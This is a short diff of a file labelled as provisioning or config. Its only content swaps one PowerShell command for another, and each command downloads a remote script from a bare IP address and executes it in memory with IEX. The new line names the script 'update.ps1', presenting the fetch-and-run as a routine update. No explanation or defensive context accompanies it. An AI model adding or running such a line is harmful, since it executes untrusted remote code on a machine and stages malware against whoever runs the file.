@@ -1,2 +1,2 @@
-# provision 5424 v2
-IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/inv.ps1')
+# config 1270 v2
+IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/update.ps1')
